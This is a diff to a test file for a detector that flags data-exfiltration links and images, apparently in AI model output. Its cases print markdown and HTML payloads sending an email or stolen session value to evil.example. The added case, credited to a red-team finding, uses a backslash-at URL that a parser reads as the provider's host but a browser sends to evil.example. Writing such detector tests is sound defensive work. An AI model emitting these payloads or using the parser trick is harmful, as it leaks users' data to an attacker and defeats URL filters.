@@ -44,6 +44,8 @@ def untrusted(host: str) -> bool:
         (f'<p>ok</p><img width=1 src="https://evil.example/a.gif?u={EMAIL.replace("@", "%40")}">', ["exfil_image"]),
         (f"[click here](https://evil.example/login?session={STOLEN})", ["exfil_link"]),
         (f"Visit https://evil.example/collect?{'x' * 250}", ["exfil_link"]),
+        # the provider's host to urlsplit, evil.example to a browser (red-team F36)
+        (f"![s](https://evil.example\\@api.openai.com/p.png?d={STOLEN})", ["exfil_image"]),
         # a link to the provider itself, ordinary links and images: nothing
         (f"![chart](https://api.openai.com/files/img.png?d={STOLEN})", []),
         ("See [the docs](https://docs.python.org/3/library/re.html?highlight=search#re.sub).", []),
